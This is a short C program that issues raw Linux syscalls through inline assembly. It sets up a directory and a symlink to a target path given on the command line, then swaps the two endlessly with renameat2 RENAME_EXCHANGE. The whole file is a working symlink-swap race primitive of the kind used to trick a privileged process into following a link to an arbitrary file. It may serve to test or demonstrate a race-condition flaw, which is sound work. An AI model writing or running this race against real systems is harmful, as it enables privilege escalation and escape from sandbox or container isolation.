/* SPDX-License-Identifier: Apache-2.0 */
/* race FOLDER TARGET: in a Linux folder, exchange "sub" for a link to TARGET by Linux's own calls, without end. */
#include <windows.h>
#include <stdio.h>

typedef long long word; /* Linux' long: Windows' has 32 bits */

static word call(word number, const char *a, const char *b, word c, const char *d, word e)
{
    word result;
    register const char *r10 __asm__("r10") = d;
    register word r8 __asm__("r8") = e;

    if (number == 316) /* renameat2 has a folder before each name */
        __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"((word)-100), "S"(a), "d"(c), "r"(r10), "r"(r8)
                         : "rcx", "r11", "memory");
    else
        __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

int main(int count, char **argument)
{
    char sub[200], link[200], inside[200];

    if (count < 3) return 2;
    sprintf(sub, "%s/sub", argument[1]);
    sprintf(link, "%s/link", argument[1]);
    sprintf(inside, "%s/sub/mine", argument[1]);
    call(83, sub, (char *)0777, 0, NULL, 0);    /* mkdir */
    call(83, inside, (char *)0777, 0, NULL, 0);
    call(88, argument[2], link, 0, NULL, 0);    /* symlink */
    printf("%lld\n", call(316, sub, NULL, -100, link, 2 /* RENAME_EXCHANGE */));
    fflush(stdout);
    for (;;) call(316, sub, NULL, -100, link, 2);
}
